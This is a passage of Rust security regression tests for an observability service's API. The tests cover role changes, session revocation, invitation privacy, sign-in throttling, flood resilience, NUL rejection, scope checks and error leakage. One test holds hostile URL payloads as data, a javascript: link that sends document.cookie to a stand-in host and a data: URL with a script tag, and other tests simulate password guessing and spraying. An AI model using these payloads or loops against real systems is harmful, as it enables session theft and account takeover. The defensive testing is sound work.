        let (status, body) = call(
            &admin,
            "POST",
            &members,
            json!({"email": owner.email, "role": role}),
        )
        .await;
        assert_eq!(status, 403, "admin demoting the owner to {role}: {body}");
        assert!(
            body["message"].as_str().unwrap().contains("needs the owner role"),
            "{body}"
        );
    }
    let (status, body) = call(&admin, "DELETE", &format!("{members}/{}", owner.id), json!(null)).await;
    assert_eq!(status, 403, "admin removing the owner: {body}");
    assert_eq!(owners(&pg, organization).await, 1);
    assert_eq!(
        identity::role_of(&pg, organization, owner.id).await.unwrap(),
        Some(Role::Owner)
    );
    // An admin still manages the others.
    let (status, body) = call(
        &admin,
        "POST",
        &members,
        json!({"email": second.email, "role": "viewer"}),
    )
    .await;
    assert_eq!(status, 200, "{body}");

    // The only owner may not demote nor remove themself.
    let (status, body) = call(
        &owner,
        "POST",
        &members,
        json!({"email": owner.email, "role": "admin"}),
    )
    .await;
    assert_eq!(status, 409, "the only owner demoting themself: {body}");
    assert!(
        body["message"].as_str().unwrap().contains("at least one owner"),
        "{body}"
    );
    let (status, body) = call(&owner, "DELETE", &format!("{members}/{}", owner.id), json!(null)).await;
    assert_eq!(status, 409, "the only owner leaving: {body}");
    assert_eq!(owners(&pg, organization).await, 1);

    // Two owners demote (or remove) themselves, or each other, at the same moment: one wins.
    for round in 0..8 {
        make_owner(&pg, organization, &owner).await;
        make_owner(&pg, organization, &second).await;
        assert_eq!(owners(&pg, organization).await, 2);
        let demote = |who: &Person| json!({"email": who.email, "role": "admin"});
        let (a, b) = match round % 3 {
            0 => tokio::join!(
                call(&owner, "POST", &members, demote(&owner)),
                call(&second, "POST", &members, demote(&second)),
            ),
            1 => tokio::join!(
                call(&owner, "POST", &members, demote(&second)),
                call(&second, "POST", &members, demote(&owner)),
            ),
            _ => tokio::join!(
                call(&owner, "DELETE", format!("{members}/{}", owner.id), json!(null)),
                call(&second, "DELETE", format!("{members}/{}", second.id), json!(null)),
            ),
        };
        let mut statuses = [a.0, b.0];
        statuses.sort_unstable();
        assert!(
            (200..300).contains(&statuses[0]) && [403, 409].contains(&statuses[1]),
            "round {round}: {a:?} {b:?}"
        );
        assert_eq!(owners(&pg, organization).await, 1, "round {round}: {a:?} {b:?}");
    }
    etl.server.shutdown().await.unwrap();
}

/// Attack: someone founds an organization, makes a victim a member of it (here directly; the
/// API only invites), then ends the victim's sessions everywhere, in a loop. No organization
/// role reaches a person's sessions: only the person themself (or the operator's CLI).
#[tokio::test]
async fn no_organization_role_signs_another_member_out() {
    let env = TestEnv::migrated().await;
    let etl = env.start_etl(|_| {}).await;
    let mut pg = env.postgres().await;
    let victim = person(&pg, &etl.url, "victim@sessions.test").await;
    let attacker = person(&pg, &etl.url, "attacker@sessions.test").await;
    let admin = person(&pg, &etl.url, "admin@sessions.test").await;
    let home = identity::found_organization(&mut pg, "home", victim.id)
        .await
        .unwrap()
        .id;
    identity::add_member(&pg, home, admin.id, Role::Admin)
        .await
        .unwrap();
    // The attacker's own organization, founded through the API, with the victim in it.
    let (status, founded) = call(
        &attacker,
        "POST",
        format!("{}/v1/organizations", etl.url),
        json!({"name": "trap"}),
    )
    .await;
    assert_eq!(status, 201, "{founded}");
    let trap: uuid::Uuid = founded["id"].as_str().unwrap().parse().unwrap();
    identity::add_member(&pg, trap, victim.id, Role::Viewer)
        .await
        .unwrap();
    identity::add_member(&pg, trap, admin.id, Role::Viewer)
        .await
        .unwrap();
    let me = format!("{}/v1/me", etl.url);
    // The trap's owner, and an admin of the victim's own organization, are refused.
    for (who, organization) in [(&attacker, trap), (&admin, home)] {
        let revoke = format!(
            "{}/v1/organizations/{organization}/members/{}/sessions/revoke",
            etl.url, victim.id
        );
        let (status, body) = call(who, "POST", &revoke, json!(null)).await;
        assert_eq!(
            status, 403,
            "{} revoking the victim's sessions: {body}",
            who.email
        );
        let (status, body) = call(&victim, "GET", &me, json!(null)).await;
        assert_eq!(status, 200, "the victim's session still works: {body}");
    }
    // The victim ends their own sessions; their token stops working.
    let revoke = format!(
        "{}/v1/organizations/{home}/members/{}/sessions/revoke",
        etl.url, victim.id
    );
    let (status, body) = call(&victim, "POST", &revoke, json!(null)).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["sessions_ended"], 1, "{body}");
    let (status, _) = call(&victim, "GET", &me, json!(null)).await;
    assert_eq!(status, 401);
    // The operator signs someone out everywhere with the CLI.
    let (status, _) = call(&admin, "GET", &me, json!(null)).await;
    assert_eq!(status, 200);
    let ended = run_cli(&env, &["user", "revoke-sessions", "--email", &admin.email]).await;
    assert_eq!(ended.trim(), "ended 1 sessions of admin@sessions.test");
    let (status, _) = call(&admin, "GET", &me, json!(null)).await;
    assert_eq!(status, 401);
    etl.server.shutdown().await.unwrap();
}

/// The keys of a JSON object, sorted.
fn keys(value: &Value) -> Vec<String> {
    let mut keys: Vec<String> = value
        .as_object()
        .map(|o| o.keys().cloned().collect())
        .unwrap_or_default();
    keys.sort();
    keys
}

/// Attack: adding any email to an organization one founded told which emails have accounts
/// (404, or the user's id and name) and made them members without their consent. Adding now
/// invites: the same answer for a known and an unknown email, and membership only once the
/// person accepts.
#[tokio::test]
async fn adding_a_member_invites_them_and_tells_nothing_about_the_email() {
    let env = TestEnv::migrated().await;
    let etl = env.start_etl(|_| {}).await;
    let mut pg = env.postgres().await;
    let owner = person(&pg, &etl.url, "owner@invite.test").await;
    let admin = person(&pg, &etl.url, "admin@invite.test").await;
    let known = person(&pg, &etl.url, "known@invite.test").await;
    let stranger = person(&pg, &etl.url, "stranger@invite.test").await;
    let organization = identity::found_organization(&mut pg, "inviters", owner.id)
        .await
        .unwrap()
        .id;
    identity::add_member(&pg, organization, admin.id, Role::Admin)
        .await
        .unwrap();
    let org = format!("{}/v1/organizations/{organization}", etl.url);
    let members = format!("{org}/members");

    // A known and an unknown email: the same status and the same shape, nothing of the account.
    let (known_status, invited) = call(
        &admin,
        "POST",
        &members,
        json!({"email": "Known@invite.test", "role": "viewer"}),
    )
    .await;
    let (unknown_status, unknown) = call(
        &admin,
        "POST",
        &members,
        json!({"email": "nobody@invite.test", "role": "viewer"}),
    )
    .await;
    assert_eq!(known_status, 201, "{invited}");
    assert_eq!(unknown_status, known_status, "{unknown}");
    assert_eq!(keys(&invited), keys(&unknown));
    assert_eq!(
        keys(&invited),
        [
            "created_at",
            "email",
            "expires_at",
            "id",
            "organization_id",
            "role"
        ]
    );
    assert_eq!(invited["email"], "known@invite.test");
    assert_eq!(invited["role"], "viewer");
    assert!(!invited.to_string().contains(&known.id.to_string()), "{invited}");
    // Not a member until they accept: not listed, and they cannot see the organization.
    let (_, listed) = call(&admin, "GET", &members, json!(null)).await;
    assert_eq!(listed["meta"]["totalItems"], 2, "{listed}");
    let (status, _) = call(&known, "GET", &members, json!(null)).await;
    assert_eq!(status, 404);
    let (_, pending) = call(&admin, "GET", format!("{org}/invitations"), json!(null)).await;
    let emails: Vec<&str> = pending["data"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["email"].as_str().unwrap())
        .collect();
    assert_eq!(emails.len(), 2, "{pending}");
    assert!(emails.contains(&"known@invite.test") && emails.contains(&"nobody@invite.test"));

    // The invited person sees their invitation; nobody else does, nor can answer it.
    let mine = format!("{}/v1/invitations", etl.url);
    let (status, received) = call(&known, "GET", &mine, json!(null)).await;
    assert_eq!(status, 200, "{received}");
    assert_eq!(received["data"][0]["id"], invited["id"], "{received}");
    assert_eq!(received["data"][0]["organization"]["name"], "inviters");
    assert_eq!(received["data"][0]["role"], "viewer");
    assert_eq!(received["data"][0]["invited_by"], "admin@invite.test");
    let (_, theirs) = call(&stranger, "GET", &mine, json!(null)).await;
    assert_eq!(theirs["data"], json!([]), "{theirs}");
    let id = invited["id"].as_str().unwrap();
    let (status, _) = call(&stranger, "POST", format!("{mine}/{id}/accept"), json!(null)).await;
    assert_eq!(status, 404);
    // They accept: now a member, with the invitation's role; the invitation is gone.
    let (status, joined) = call(&known, "POST", format!("{mine}/{id}/accept"), json!(null)).await;
    assert_eq!(status, 200, "{joined}");
    assert_eq!(joined["organization"]["id"], organization.to_string());
    assert_eq!(joined["role"], "viewer");
    assert_eq!(
        identity::role_of(&pg, organization, known.id).await.unwrap(),
        Some(Role::Viewer)
    );
    let (status, _) = call(&known, "GET", &members, json!(null)).await;
    assert_eq!(status, 200);
    let (status, _) = call(&known, "POST", format!("{mine}/{id}/accept"), json!(null)).await;
    assert_eq!(status, 404, "answered once");
    // A member's email changes their role.
    let (status, changed) = call(
        &admin,
        "POST",
        &members,
        json!({"email": known.email, "role": "member"}),
    )
    .await;
    assert_eq!(status, 200, "{changed}");
    assert_eq!(changed["role"], "member");

    // The email without an account: once its person has one, they see and accept it.
    let late = person(&pg, &etl.url, "nobody@invite.test").await;
    let (_, received) = call(&late, "GET", &mine, json!(null)).await;
    let id = received["data"][0]["id"].as_str().unwrap().to_owned();
    let (status, _) = call(&late, "POST", format!("{mine}/{id}/accept"), json!(null)).await;
    assert_eq!(status, 200);

    // Declining deletes the invitation, and makes no member.
    let (_, invited) = call(
        &admin,
        "POST",
        &members,
        json!({"email": stranger.email, "role": "member"}),
    )
    .await;
    let id = invited["id"].as_str().unwrap();
    let (status, _) = call(&stranger, "POST", format!("{mine}/{id}/decline"), json!(null)).await;
    assert_eq!(status, 204);
    assert_eq!(
        identity::role_of(&pg, organization, stranger.id).await.unwrap(),
        None
    );
    let (_, theirs) = call(&stranger, "GET", &mine, json!(null)).await;
    assert_eq!(theirs["data"], json!([]));

    // Inviting an owner takes an owner, and so does changing an owner's pending invitation.
    let future_owner = json!({"email": "heir@invite.test", "role": "owner"});
    let (status, body) = call(&admin, "POST", &members, future_owner.clone()).await;
    assert_eq!(status, 403, "{body}");
    let (status, invited) = call(&owner, "POST", &members, future_owner).await;
    assert_eq!(status, 201, "{invited}");
    let (status, body) = call(
        &admin,
        "POST",
        &members,
        json!({"email": "heir@invite.test", "role": "viewer"}),
    )
    .await;
    assert_eq!(status, 403, "{body}");
    // An admin withdraws an invitation.
    let (status, body) = call(
        &admin,
        "DELETE",
        format!("{org}/invitations/{}", invited["id"].as_str().unwrap()),
        json!(null),
    )
    .await;
    assert_eq!(status, 204, "{body}");
    let (_, pending) = call(&admin, "GET", format!("{org}/invitations"), json!(null)).await;
    assert_eq!(pending["data"], json!([]), "{pending}");
    etl.server.shutdown().await.unwrap();
}

/// Attack: guessing one account's password in a loop. Failed sign-ins are throttled per email
/// (and per address): past the limit, a 429 with `Retry-After` and the usual JSON error, before
/// any password is checked.
#[tokio::test]
async fn wrong_passwords_in_a_loop_are_throttled() {
    let env = TestEnv::migrated().await;
    let etl = env.start_etl(|_| {}).await;
    let pg = env.postgres().await;
    let victim = person(&pg, &etl.url, "victim@guess.test").await;
    let http = reqwest::Client::new();
    let sign_in = |email: &str, password: &str| {
        http.post(format!("{}/v1/auth/sign-in", etl.url))
            .json(&json!({"email": email, "password": password}))
            .send()
    };
    let mut refused = 0;
    let throttled = loop {
        let answer = sign_in(&victim.email, &format!("guess number {refused}"))
            .await
            .unwrap();
        if answer.status() == 429 {
            break answer;
        }
        assert_eq!(answer.status(), 401);
        refused += 1;
        assert!(refused <= 30, "30 wrong passwords for one email and still no 429");
    };
    println!("throttled after {refused} wrong passwords");
    let wait: u64 = throttled.headers()["retry-after"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!((1..=60).contains(&wait), "Retry-After: {wait}");
    let body: Value = throttled.json().await.unwrap();
    assert_eq!(body["error"], "too_many_attempts", "{body}");
    assert!(body["message"].as_str().unwrap().contains("try again"), "{body}");
    // Throttled means unchecked: the right password waits too.
    assert_eq!(sign_in(&victim.email, PASSWORD).await.unwrap().status(), 429);
    // Another account is not locked by it.
    let other = person(&pg, &etl.url, "other@guess.test").await;
    assert_eq!(
        sign_in(&other.email, "not the password").await.unwrap().status(),
        401
    );

    // Many emails from one address: the address runs out too.
    let mut sprayed = 0;
    loop {
        let answer = sign_in(&format!("spray-{sprayed}@guess.test"), "password123456")
            .await
            .unwrap();
        if answer.status() == 429 {
            assert!(answer.headers().contains_key("retry-after"));
            break;
        }
        assert_eq!(answer.status(), 401);
        sprayed += 1;
        assert!(
            sprayed <= 100,
            "100 failed sign-ins from one address and still no 429"
        );
    }
    etl.server.shutdown().await.unwrap();
}

/// Attack: 100 concurrent wrong sign-ins stalled the server (argon2 on the async workers, each
/// holding a pooled PostgreSQL connection). Hashing now runs on a bounded blocking pool with no
/// connection held, and a bounded number of sign-ins may wait for it (429 at once beyond):
/// `/readyz`, polled throughout, answers within 2 s. Not throttled per address or email here,
/// so that the hashing pool takes the whole flood; two workers, as on a two-core server.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_flood_of_wrong_sign_ins_does_not_stall_the_server() {
    let env = TestEnv::migrated().await;
    let etl = env
        .start_etl(|config| config.sign_in_limits = SignInLimits::unlimited())
        .await;
    let pg = env.postgres().await;
    for i in 0..10 {
        identity::create_user(&pg, &format!("user-{i}@flood.test"), None, PASSWORD)
            .await
            .unwrap();
    }
    let http = reqwest::Client::builder()
        .timeout(Duration::from_secs(120))
        .build()
        .unwrap();
    let ready = format!("{}/readyz", etl.url);
    assert_eq!(http.get(&ready).send().await.unwrap().status(), 200);
    // An agent keeps sending meanwhile: its batches must still be acknowledged, promptly.
    let agent = env.create_project("flood-agent").await;
    let mut sessions = agenttrace_cli::agent::SessionGenerator::new(7);
    let batches: Vec<Vec<agenttrace_schemas::Event<'static>>> = (0..200)
        .map(|_| sessions.session(agenttrace_schemas::Timestamp::now(), 1))
        .collect();
    let done = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let sender = {
        let (client, done) = (etl.client.clone(), done.clone());
        tokio::spawn(async move {
            let (mut worst, mut acknowledged) = (Duration::ZERO, 0);
            for batch in batches {
                if done.load(std::sync::atomic::Ordering::Relaxed) {
                    break;
                }
                let started = Instant::now();
                let answer = client.send(&agent.key, &batch).await.unwrap().response().unwrap();
                assert!(answer.rejected.is_empty(), "{:?}", answer.rejected);
                worst = worst.max(started.elapsed());
                acknowledged += 1;
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
            (worst, acknowledged)
        })
    };
    let poller = {
        let (http, done) = (http.clone(), done.clone());
        tokio::spawn(async move {
            let (mut worst, mut polls) = (Duration::ZERO, 0);
            while !done.load(std::sync::atomic::Ordering::Relaxed) {
                let started = Instant::now();
                let answer = tokio::time::timeout(Duration::from_secs(30), http.get(&ready).send()).await;
                let took = started.elapsed();
                assert!(
                    matches!(&answer, Ok(Ok(response)) if response.status() == 200),
                    "/readyz during the flood: {answer:?} after {took:?}"
                );
                worst = worst.max(took);
                polls += 1;
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
            (worst, polls)
        })
    };
    let started = Instant::now();
    let attempts: Vec<_> = (0..100)
        .map(|i| {
            let (http, url) = (http.clone(), etl.url.clone());
            // Known and unknown emails alike.
            let email = if i % 2 == 0 {
                format!("user-{}@flood.test", i % 10)
            } else {
                format!("nobody-{i}@flood.test")
            };
            tokio::spawn(async move {
                http.post(format!("{url}/v1/auth/sign-in"))
                    .json(&json!({"email": email, "password": "not the password at all"}))
                    .send()
                    .await
                    .unwrap()
                    .status()
                    .as_u16()
            })
        })
        .collect();
    let mut statuses = Vec::new();
    for attempt in attempts {
        statuses.push(attempt.await.unwrap());
    }
    let flood = started.elapsed();
    done.store(true, std::sync::atomic::Ordering::Relaxed);
    let (worst, polls) = poller.await.unwrap();
    let (slowest_ack, acknowledged) = sender.await.unwrap();
    let checked = statuses.iter().filter(|s| **s == 401).count();
    println!(
        "100 wrong sign-ins took {flood:?} ({checked} checked, {} refused at once as too many); \
         /readyz answered {polls} polls, the slowest in {worst:?}; {acknowledged} ingest batches \
         acknowledged meanwhile, the slowest in {slowest_ack:?}",
        100 - checked
    );
    assert!(acknowledged > 0, "no batch was acknowledged during the flood");
    assert!(
        slowest_ack < Duration::from_secs(2),
        "an ingest acknowledgement took {slowest_ack:?}"
    );
    assert!(statuses.iter().all(|s| [401, 429].contains(s)), "{statuses:?}");
    assert!(checked >= 16, "{statuses:?}");
    assert!(polls >= 2, "/readyz polled {polls} times");
    assert!(worst < Duration::from_secs(2), "/readyz took {worst:?}");
    etl.server.shutdown().await.unwrap();
}

/// Attack: a NUL character (`\u0000`) in a text field or a parameter reached PostgreSQL, which
/// stores it in no text, and came back as a 503 (retry forever). It is a 400 naming the field,
/// refused before any handler runs for parameters and while reading JSON bodies.
#[tokio::test]
async fn a_nul_character_anywhere_is_a_400_naming_the_field() {
    let env = TestEnv::migrated().await;
    let etl = env.start_etl(|_| {}).await;
    let mut pg = env.postgres().await;
    let owner = person(&pg, &etl.url, "owner@nul.test").await;
    let organization = identity::found_organization(&mut pg, "nul", owner.id)
        .await
        .unwrap()
        .id;
    let project = projects::create_project(&pg, organization, "nul", None)
        .await
        .unwrap()
        .id;
    let key = api_keys::create_key(&pg, project, &[Scope::Read, Scope::Manage], None)
        .await
        .unwrap();
    let base = format!("{}/v1/projects/{project}", etl.url);
    let http = reqwest::Client::new();
    let refused = |answer: (u16, Value), field: &str| {
        assert_eq!(answer.0, 400, "{field}: {}", answer.1);
        let message = answer.1["message"].as_str().unwrap().to_owned();
        assert!(
            message.starts_with(&format!("{field}: ")) && message.contains("NUL"),
            "{field}: {message}"
        );
        assert_eq!(answer.1["error"], "invalid_request");
    };
    // A dataset's JSON Schema, through AgentTrace's route and Langfuse's.
    let schema = json!({"type": "object", "properties": {"q": {"description": "a\u{0}b"}}});
    refused(
        call(
            &owner,
            "POST",
            format!("{base}/datasets"),
            json!({"name": "d", "input_schema": schema}),
        )
        .await,
        "input_schema.properties.q.description",
    );
    let langfuse = http
        .post(format!("{}/api/public/v2/datasets", etl.url))
        .basic_auth(&key.public_key, Some(&key.secret_key))
        .json(&json!({"name": "lf", "inputSchema": schema}))
        .send()
        .await
        .unwrap();
    let status = langfuse.status().as_u16();
    refused(
        (status, langfuse.json().await.unwrap()),
        "inputSchema.properties.q.description",
    );
    // A key, an array element, a sign-in's email.
    refused(
        call(
            &owner,
            "POST",
            format!("{base}/prompts"),
            json!({"name": "p", "prompt": "hi", "labels": ["ok", "x\u{0}"]}),
        )
        .await,
        "labels[1]",
    );
    refused(
        call(
            &owner,
            "POST",
            format!("{base}/datasets"),
            json!({"name": "m", "metadata": {"k\u{0}": 1}}),
        )
        .await,
        "metadata.k\\u0000",
    );
    let sign_in = http
        .post(format!("{}/v1/auth/sign-in", etl.url))
        .json(&json!({"email": "owner\u{0}@nul.test", "password": PASSWORD}))
        .send()
        .await
        .unwrap();
    let status = sign_in.status().as_u16();
    refused((status, sign_in.json().await.unwrap()), "email");
    // Query and path parameters, percent-encoded.
    refused(
        call(&owner, "GET", format!("{base}/prompts?name=a%00b"), json!(null)).await,
        "name",
    );
    refused(
        call(
            &owner,
            "GET",
            format!("{base}/prompts/greet?label=x%00"),
            json!(null),
        )
        .await,
        "label",
    );
    refused(
        call(&owner, "GET", format!("{base}/datasets/a%00b"), json!(null)).await,
        "name",
    );
    let langfuse = http
        .get(format!("{}/api/public/v2/prompts/a%00b", etl.url))
        .basic_auth(&key.public_key, Some(&key.secret_key))
        .send()
        .await
        .unwrap();
    let status = langfuse.status().as_u16();
    refused((status, langfuse.json().await.unwrap()), "name");
    // A JSONL import names the line.
    let (status, _) = call(&owner, "POST", format!("{base}/datasets"), json!({"name": "d"})).await;
    assert_eq!(status, 200);
    let import = http
        .post(format!("{base}/datasets/d/items"))
        .bearer_auth(&owner.token)
        .header("content-type", "application/x-ndjson")
        .body("{\"input\": {\"q\": 1}}\n{\"input\": {\"q\": \"\\u0000\"}}\n")
        .send()
        .await
        .unwrap();
    let status = import.status().as_u16();
    refused((status, import.json().await.unwrap()), "line 2: input.q");
    // Nothing was broken: the server answers, and the first line was not imported either.
    let (status, items) = call(&owner, "GET", format!("{base}/datasets/d/items"), json!(null)).await;
    assert_eq!(status, 200, "{items}");
    assert_eq!(items["meta"]["totalItems"], 0, "{items}");
    etl.server.shutdown().await.unwrap();
}

/// Attack: a git link's `pull_request_url` became a link in the UI whatever its scheme
/// (`javascript:` ran when clicked). URLs stored for links must be http(s): any other is
/// refused, naming the field (the edge answers 400 for a request of only such events).
#[tokio::test]
async fn a_pull_request_url_must_be_http_or_https() {
    use agenttrace_schemas::event::{GitLink, Payload};
    use agenttrace_schemas::{Event, Timestamp};
    let env = TestEnv::migrated().await;
    let etl = env.start_etl(|_| {}).await;
    let project = env.create_project("links").await;
    let link = |id: &str, url: &str| Event {
        id: format!("e-{id}").into(),
        timestamp: Timestamp::now(),
        payload: Payload::GitLink(GitLink {
            id: id.to_owned().into(),
            trace_id: "trace".into(),
            observation_id: None,
            timestamp: None,
            repository: "acme/app".into(),
            branch: None,
            commit_sha: "c0ffee1".into(),
            message: None,
            author: None,
            files_changed: 0,
            insertions: 0,
            deletions: 0,
            pull_request_url: Some(url.to_owned().into()),
        }),
    };
    let events = [
        link("good", "https://github.com/acme/app/pull/7"),
        link("script", "javascript:fetch('//evil.test?'+document.cookie)"),
        link("data", "data:text/html,<script>alert(1)</script>"),
    ];
    let answer = etl.load(&project.key, &events).await;
    assert_eq!(answer.accepted, 1, "{answer:?}");
    let rejected: Vec<(&str, &str)> = answer
        .rejected
        .iter()
        .map(|r| (r.id.as_deref().unwrap_or_default(), r.field.as_str()))
        .collect();
    assert_eq!(
        rejected,
        [
            ("e-script", "body.pull_request_url"),
            ("e-data", "body.pull_request_url")
        ],
        "{answer:?}"
    );
    assert!(
        answer.rejected[0].message.contains("http:// or https://"),
        "{answer:?}"
    );
    let id = project.key.project_id;
    env.wait_until(
        &format!("SELECT groupArray(pull_request_url) FROM git_links WHERE project_id = '{id}'"),
        "['https://github.com/acme/app/pull/7']",
        Duration::from_secs(10),
    )
    .await;
    etl.server.shutdown().await.unwrap();
}

/// Attack: `/api/public/projects` answered any key, whatever its scopes. Every `/api/public`
/// route but the health check now requires its scope: each one, as the OpenAPI document lists
/// them, answers 403 to a key with only `ingest`.
#[tokio::test]
async fn every_langfuse_route_checks_its_scope() {
    let env = TestEnv::migrated().await;
    let etl = env.start_etl(|_| {}).await;
    let pg = env.postgres().await;
    let organization = projects::ensure_organization(&pg, "scopes").await.unwrap();
    let project = projects::create_project(&pg, organization, "scopes", None)
        .await
        .unwrap()
        .id;
    let ingest_only = api_keys::create_key(&pg, project, &[Scope::Ingest], None)
        .await
        .unwrap();
    let reader = api_keys::create_key(&pg, project, &[Scope::Read], None)
        .await
        .unwrap();
    let http = reqwest::Client::new();
    let document: Value = serde_json::from_str(
        &std::fs::read_to_string(agenttrace_tests::repo_root().join("etl/api/openapi.json")).unwrap(),
    )
    .unwrap();
    let placeholders = regex::Regex::new(r"\{[^}]+\}").unwrap();
    let mut checked = Vec::new();
    for (path, item) in document["paths"].as_object().unwrap() {
        if !path.starts_with("/api/public/") || path == "/api/public/health" {
            continue;
        }
        for method in item.as_object().unwrap().keys() {
            let url = format!("{}{}", etl.url, placeholders.replace_all(path, "x"));
            let mut request = http
                .request(method.to_uppercase().parse().unwrap(), &url)
                .basic_auth(&ingest_only.public_key, Some(&ingest_only.secret_key));
            if method != "get" && method != "delete" {
                request = request.json(&json!({}));
            }
            let answer = request.send().await.unwrap();
            let status = answer.status().as_u16();
            let body = answer.text().await.unwrap();
            assert_eq!(status, 403, "{method} {path} with an ingest-only key: {body}");
            assert!(body.contains("lacks the"), "{method} {path}: {body}");
            checked.push(format!("{method} {path}"));
        }
    }
    assert!(
        checked.contains(&"get /api/public/projects".to_owned()),
        "{checked:?}"
    );
    assert!(checked.len() >= 10, "{checked:?}");
    // The `read` scope is what the projects route needs.
    let answer = http
        .get(format!("{}/api/public/projects", etl.url))
        .basic_auth(&reader.public_key, Some(&reader.secret_key))
        .send()
        .await
        .unwrap();
    assert_eq!(answer.status(), 200);
    let projects: Value = answer.json().await.unwrap();
    assert_eq!(projects["data"][0]["id"], project.to_string());
    etl.server.shutdown().await.unwrap();
}

/// Attack: 503 answers and `/readyz` carried the databases' own errors (addresses, the
/// driver's words). They name what failed, nothing more; the details go to the log.
#[tokio::test]
async fn unavailable_answers_name_the_database_and_nothing_of_its_error() {
    use agenttrace_etl::clickhouse::{ClickHouse, ClickHouseConfig};
    let env = TestEnv::migrated().await;
    let pg = env.postgres().await;
    let dead_port = {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        listener.local_addr().unwrap().port()
    };
    let internals = [
        "error connecting",
        "onnection refused",
        "os error",
        "127.0.0.1",
        &dead_port.to_string(),
        "error sending request",
    ];
    let clean = |body: &str| {
        for internal in internals {
            assert!(!body.contains(internal), "{internal:?} in {body}");
        }
    };
    let http = reqwest::Client::new();

    // PostgreSQL unreachable.
    let etl = env
        .start_etl(|config| config.database_url = format!("postgres://postgres@127.0.0.1:{dead_port}/gone"))
        .await;
    let ready = http.get(format!("{}/readyz", etl.url)).send().await.unwrap();
    assert_eq!(ready.status(), 503);
    let ready: Value = ready.json().await.unwrap();
    assert_eq!(ready["postgres"], "PostgreSQL is unavailable", "{ready}");
    assert_eq!(ready["clickhouse"], "ok", "{ready}");
    let sign_in = http
        .post(format!("{}/v1/auth/sign-in", etl.url))
        .json(&json!({"email": "someone@down.test", "password": PASSWORD}))
        .send()
        .await
        .unwrap();
    assert_eq!(sign_in.status(), 503);
    assert!(sign_in.headers().contains_key("retry-after"));
    let body = sign_in.text().await.unwrap();
    clean(&body);
    let body: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(body["error"], "unavailable");
    assert_eq!(body["message"], "PostgreSQL is unavailable; retry later");
    etl.server.shutdown().await.unwrap();

    // ClickHouse unreachable: readiness, and a read that needs it.
    let etl = env
        .start_etl(|config| {
            config.clickhouse = ClickHouse::new(ClickHouseConfig {
                url: format!("http://127.0.0.1:{dead_port}"),
                database: env.name.clone(),
                user: None,
                password: None,
                cluster: None,
                node_urls: Vec::new(),
            });
            config.reader = config.clickhouse.reader(None);
        })
        .await;
    let ready = http.get(format!("{}/readyz", etl.url)).send().await.unwrap();
    assert_eq!(ready.status(), 503);
    let text = ready.text().await.unwrap();
    clean(&text);
    let ready: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(ready["clickhouse"], "ClickHouse is unavailable", "{ready}");
    assert_eq!(ready["postgres"], "ok", "{ready}");
    let organization = projects::ensure_organization(&pg, "down").await.unwrap();
    let project = projects::create_project(&pg, organization, "down", None)
        .await
        .unwrap()
        .id;
    let key = api_keys::create_key(&pg, project, &[Scope::Read], None)
        .await
        .unwrap();
    let read = http
        .get(format!("{}/v1/traces", etl.url))
        .basic_auth(&key.public_key, Some(&key.secret_key))
        .send()
        .await
        .unwrap();
    assert_eq!(read.status(), 503);
    let body = read.text().await.unwrap();
    clean(&body);
    let body: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(
        body["message"], "ClickHouse is unavailable; retry later",
        "{body}"
    );
    etl.server.shutdown().await.unwrap();
}

/// Times are selected as `timestamptz` and written in Rust; the text must be what PostgreSQL's
/// `to_char(t AT TIME ZONE 'UTC', ...)` wrote before, truncated rather than rounded, whatever
/// the session's time zone.
#[tokio::test]
async fn times_are_written_as_postgres_to_char_writes_them() {
    use agenttrace_etl::control::{Precision, time};
    let pg = agenttrace_etl::postgres::connect(&agenttrace_tests::database_url())
        .await
        .expect("PostgreSQL is running (scripts/stack.sh up)");
    pg.batch_execute("SET TimeZone = 'America/New_York'")
        .await
        .unwrap();
    for value in [
        "2026-01-02 03:04:05.6789+00",
        "2026-01-02 03:04:05+00",
        "2026-12-31 23:59:59.9999999+00",
        "2026-03-08 01:30:00.000999-05",
        "1970-01-01 00:00:00.5+00",
        "0999-06-01 12:00:00.123456+02",
    ] {
        let row = pg
            .query_one(
                "SELECT t,
                        to_char(t AT TIME ZONE 'UTC', 'YYYY-MM-DD\"T\"HH24:MI:SS\"Z\"') AS seconds,
                        to_char(t AT TIME ZONE 'UTC', 'YYYY-MM-DD\"T\"HH24:MI:SS.MS\"Z\"') AS millis,
                        to_char(t AT TIME ZONE 'UTC', 'YYYY-MM-DD\"T\"HH24:MI:SS.US\"Z\"') AS micros
                 FROM (SELECT $1::text::timestamptz AS t) AS given",
                &[&value],
            )
            .await
            .unwrap();
        for (precision, column) in [
            (Precision::Seconds, "seconds"),
            (Precision::Millis, "millis"),
            (Precision::Micros, "micros"),
        ] {
            assert_eq!(
                time(&row, "t", precision),
                row.get::<_, String>(column),
                "{value} to {column}"
            );
        }
    }
}
